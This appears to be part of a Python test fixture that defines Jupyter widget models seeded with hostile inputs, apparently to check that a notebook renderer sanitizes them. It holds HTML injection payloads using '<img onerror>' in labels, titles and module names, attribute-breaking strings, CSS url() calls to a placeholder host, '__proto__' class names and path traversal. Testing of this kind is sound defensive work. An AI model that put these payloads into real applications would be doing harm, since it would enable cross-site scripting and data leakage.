    "model-label": {"shown": _model("LabelModel", value=f"<img src=@HOST@/i onerror={RUN}>", description="")},
    "model-description": {
        "shown": _model(
            "TextModel",
            value="x",
            description=f"<img src=@HOST@/i onerror={RUN}>",
            description_allow_html=True,
        )
    },
    "model-options": {
        "shown": _model(
            "ToggleButtonsModel",
            _options_labels=[f"<img src=@HOST@/i onerror={RUN}>", "b"],
            index=0,
            description="",
            tooltips=["'><img src=@HOST@/i>"],
            icons=["x' onclick=x", ""],
            button_style="",
        )
    },
    "model-tab": {
        "shown": _model(
            "TabModel",
            children=["IPY_MODEL_@ID@1"],
            titles=[f"<img src=@HOST@/i onerror={RUN}>"],
            selected_index=0,
        ),
        "1": _model("LabelModel", value="x"),
    },
    "model-image-url": {
        "shown": {
            **_model("ImageModel", format="url", width="", height=""),
            "buffers": [{"path": ["value"], "encoding": "base64", "data": "@HOST64@"}],
        }
    },
    "model-video-url": {
        "shown": {
            **_model(
                "VideoModel", format="url", width="", height="", autoplay=True, loop=True, controls=True
            ),
            "buffers": [{"path": ["value"], "encoding": "base64", "data": "@HOST64@"}],
        }
    },
    "model-image-svg": {
        "shown": {
            **_model("ImageModel", format="svg+xml", width="", height=""),
            "buffers": [{"path": ["value"], "encoding": "base64", "data": "@SVG64@"}],
        }
    },
    "model-style-background": {
        "shown": _model("LabelModel", value="x", style="IPY_MODEL_@ID@1"),
        "1": _model(
            "LabelStyleModel",
            background="url(@HOST@/b.png)",
            _view_module="@jupyter-widgets/base",
            _view_name="StyleView",
        ),
    },
    "model-layout": {
        "shown": _model("LabelModel", value="x", layout="IPY_MODEL_@ID@1"),
        "1": _model(
            "LayoutModel",
            "@jupyter-widgets/base",
            border_top="url(@HOST@/b.png)",
            grid_area="image-set('@HOST@/a' 1x)",
            _view_name="LayoutView",
        ),
    },
    "model-class-strange": {"shown": _model("ManagerBase", "@jupyter-widgets/base")},
    "model-class-constructor": {"shown": _model("constructor"), "1": _model("__proto__")},
    "model-class-function": {"shown": _model("uuid", "@jupyter-widgets/base", _view_name="uuid")},
    "model-view-strange": {
        "shown": _model(
            "LabelModel", value="x", _view_name="ErrorWidgetView", _view_module="@jupyter-widgets/base"
        )
    },
    "model-module-strange": {"shown": _model("MapModel", "jupyter-leaflet", url="@HOST@/tiles")},
    "model-module-path": {"shown": _model("XModel", "../../../x")},
    "model-module-url": {"shown": _model("XModel", "@HOST@/m.js")},
    "model-module-markup": {"shown": _model("XModel", f"'><img src=@HOST@/i onerror={RUN}>")},
    "model-module-old": {
        "shown": _model("HTMLModel", "jupyter-js-widgets", value=f"<img src=@HOST@/i onerror={RUN}>")
    },
    "model-bqplot-strange-scale": {
        "shown": _model(
            "FigureModel", "bqplot", _view_name="Figure", scale_x="IPY_MODEL_@ID@1", marks=[], axes=[]
        ),
        "1": _anywidget(),
    },
    "model-bqplot-style": {
        "shown": _model(
            "FigureModel",
            "bqplot",
            _view_name="Figure",
            marks=[],
            axes=[],
            title="x",
            background_style={"fill": "url(@HOST@/f.svg#a)", "filter": "url(@HOST@/g.svg#a)"},
            title_style={"mask": "url(@HOST@/m.svg#a)"},
            fig_margin={"top": 0, "bottom": 0, "left": 0, "right": 0},
            layout="IPY_MODEL_@ID@1",
            scale_x="IPY_MODEL_@ID@2",
            scale_y="IPY_MODEL_@ID@2",
            min_aspect_ratio=1.0,
            max_aspect_ratio=2.0,
            legend_location="top-right",
            legend_style={},
            legend_text={},
            padding_x=0,
            padding_y=0,
            animation_duration=0,
            theme="classic",
            pixel_ratio=None,
            interaction=None,
            auto_layout=False,
            display_toolbar=False,
        ),
        "1": _model(
            "LayoutModel", "@jupyter-widgets/base", _view_name="LayoutView", width="300px", height="200px"
        ),
        "2": _model(
            "LinearScaleModel",
            "bqscales",
            _view_name="LinearScale",
            min=0.0,
            max=1.0,
            stabilized=False,
            allow_padding=False,
        ),
    },
}
